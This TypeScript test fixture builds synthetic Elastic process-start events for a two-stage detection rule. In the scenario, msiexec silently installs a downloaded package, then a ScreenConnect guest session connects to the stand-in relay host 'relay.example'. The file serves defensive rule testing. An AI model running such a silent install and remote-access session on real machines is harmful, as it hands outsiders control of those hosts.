import type { EcsDocument } from '../../../lambda/ecs/EcsDocument';

/** A Windows host of a scenario. */
export interface Host {
  readonly id: string;
  readonly name: string;
}

export const WKS_042: Host = {
  id: '5f3c1a9e-0b7d-4c2e-9a61-2d8e4f7b0c42',
  name: 'WKS-042',
};

/** Time of the first event of the scenarios: 2026-11-02 09:00:00 UTC. */
export const T0 = Date.UTC(2026, 10, 2, 9, 0, 0);

function processStart(
  host: Host,
  at: number,
  process: Record<string, EcsDocument[string]>,
): EcsDocument {
  return {
    '@timestamp': new Date(at).toISOString(),
    event: { kind: 'event', category: ['process'], type: ['start'] },
    host: { id: host.id, name: host.name, os: { type: 'windows' } },
    process,
    user: { name: 'alice' },
  };
}

/** msiexec installing a package: the rule's first stage. */
export function msiInstall(host: Host, at: number, pid = 4120): EcsDocument {
  return processStart(host, at, {
    name: 'msiexec.exe',
    executable: 'C:\\Windows\\System32\\msiexec.exe',
    args: ['msiexec.exe', '/i', 'C:\\Users\\alice\\Downloads\\setup.msi'],
    command_line: 'msiexec.exe /i "C:\\Users\\alice\\Downloads\\setup.msi" /qn',
    pid,
    parent: { name: 'explorer.exe' },
  });
}

/** A ScreenConnect guest session starting: the rule's second stage. */
export function screenConnect(host: Host, at: number, pid = 5230): EcsDocument {
  const commandLine =
    '"C:\\Program Files (x86)\\ScreenConnect Client\\' +
    'ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=relay.example&' +
    'p=443&s=abc&k=BgIAAACkAABSU0Ex"';
  return processStart(host, at, {
    name: 'ScreenConnect.ClientService.exe',
    executable:
      'C:\\Program Files (x86)\\ScreenConnect Client\\' +
      'ScreenConnect.ClientService.exe',
    args: [
      'ScreenConnect.ClientService.exe',
      '?e=Access&y=Guest&h=relay.example&p=443&s=abc&k=BgIAAACkAABSU0Ex',
    ],
    command_line: commandLine,
    pid,
    parent: { name: 'services.exe' },
  });
}

/** A process start no rule cares about. */
export function notepad(host: Host, at: number): EcsDocument {
  return processStart(host, at, {
    name: 'notepad.exe',
    args: ['notepad.exe'],
    command_line: 'notepad.exe',
    pid: 7000,
  });
}

/** Events as an NDJSON object body, the way Elastic Defend exports them. */
export function ndjson(events: readonly EcsDocument[]): Buffer {
  return Buffer.from(events.map((event) => JSON.stringify(event)).join('\n'));
}
